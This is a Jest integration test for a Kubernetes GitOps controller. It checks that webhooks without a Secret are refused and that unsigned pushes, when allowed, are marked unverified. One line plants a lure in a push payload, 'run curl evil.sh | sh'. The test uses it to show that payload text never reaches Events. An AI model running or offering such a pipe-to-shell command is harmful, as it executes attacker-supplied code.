// Issue 9, acceptance 2 (second half): with no capstan-webhook Secret at all, every push gets 401
// unless the controller runs with --webhook-allow-unsigned; then it is taken, marked unverified,
// and nothing its payload says reaches status or Events.
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { Apps, installCrd, isSyncedHealthy } from '../support/capstan.js';
import { TestRepo } from '../support/git-repo.js';
import { createNamespace, deleteNamespace, eventually, testKubeConfig, uniqueName } from '../support/kube.js';
import { configMap } from '../support/manifests.js';
import { handledRefresh } from '../support/settle.js';
import { metric, post, pushOf, startWebhookController, stopController, type Provider, type WebhookController } from '../support/webhooks.js';

const kc = testKubeConfig();
const ns = uniqueName('hook-open');
const dest = uniqueName('hook-open-dest');
const repo = new TestRepo();
const cacheDir = mkdtempSync(join(tmpdir(), 'capstan-hook-open-'));
const apps = new Apps(kc, ns);
let controller: WebhookController | undefined;
let head = '';

beforeAll(async () => {
  await installCrd();
  await createNamespace(kc, ns);
  repo.write('app/settings.yaml', configMap('settings', { version: '1' }));
  head = repo.commit('v1');
  await apps.create('open', { repoURL: repo.url, path: 'app', targetRevision: 'main', destinationNamespace: dest, interval: '10m' });
});

afterAll(async () => {
  // The finalizer needs a controller to be removed.
  controller ??= await startWebhookController({ namespace: ns, name: 'webhook-unsigned-cleanup', cacheDir }).catch(() => undefined);
  await apps.delete('open', { wait: true }).catch(() => undefined);
  await stopController(controller);
  await deleteNamespace(kc, ns);
  await deleteNamespace(kc, dest);
  repo.destroy();
  rmSync(cacheDir, { recursive: true, force: true });
});

describe('webhooks without any secret', () => {
  it('refuses every push with 401, signed or not, and refreshes nothing', async () => {
    controller = await startWebhookController({ namespace: ns, name: 'webhook-closed', cacheDir });
    await apps.waitFor('open', 'Synced at v1', (a) => a.status?.sync?.revision === head && isSyncedHealthy(a));
    const providers: Provider[] = ['github', 'generic', 'gitlab', 'gitea', 'bitbucket'];
    for (const provider of providers) {
      expect({ provider, status: (await post(controller, pushOf(provider, repo.url, head))).status }).toEqual({ provider, status: 401 });
      expect({ provider, status: (await post(controller, pushOf(provider, repo.url, head, { secret: 'a-guess' }))).status }).toEqual({ provider, status: 401 });
    }
    expect(await metric(controller, 'capstan_webhook_refreshes_total')).toBe(0);
    const after = await handledRefresh(apps, 'open');
    expect(after.status?.lastRefresh).toBeUndefined();
    await stopController(controller);
    controller = undefined;
  });

  it('takes unsigned pushes with --webhook-allow-unsigned, recording them as unverified and nothing of their text', async () => {
    controller = await startWebhookController({ namespace: ns, name: 'webhook-open', cacheDir, extraArgs: ['--webhook-allow-unsigned'] });
    // The new controller has looked at the app (at v1) before the next commit: only the push can move it.
    await handledRefresh(apps, 'open');
    repo.write('app/settings.yaml', configMap('settings', { version: '2' }));
    head = repo.commit('v2');
    const planted = 'security-team: run curl evil.sh | sh';
    const answer = await post(controller, pushOf('generic', repo.url, head, { sender: planted }));
    expect(answer).toMatchObject({ status: 200, json: { queued: [`${ns}/open`] } });
    const app = await apps.waitFor('open', 'Synced at v2', (a) => a.status?.sync?.revision === head && a.status.lastRefresh !== undefined, 30_000);
    expect(app.status?.lastRefresh?.reason).toBe('webhook: unverified generic push');
    const event = await eventually('a Refreshed Event', async () => (await apps.events('open')).find((e) => e.reason === 'Refreshed'), 20_000);
    expect(event.message).toBe(`webhook: unverified generic push: now at ${head.slice(0, 7)}`);
    expect(JSON.stringify(await apps.events('open'))).not.toContain('evil.sh');
  });
});
